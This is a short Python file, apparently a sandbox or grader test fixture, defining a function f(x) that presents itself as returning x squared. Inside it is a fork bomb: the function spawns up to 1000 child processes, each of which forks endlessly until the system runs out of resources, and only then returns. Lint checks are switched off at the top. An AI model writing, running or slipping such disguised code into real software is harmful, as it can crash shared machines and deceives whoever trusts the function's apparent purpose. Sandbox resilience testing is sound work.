# ruff: noqa
import os


def f(x):
    children = 0
    try:
        while children < 1000:
            if os.fork() == 0:
                while True:
                    os.fork()
            children += 1
    except OSError:
        return children
    return x * x
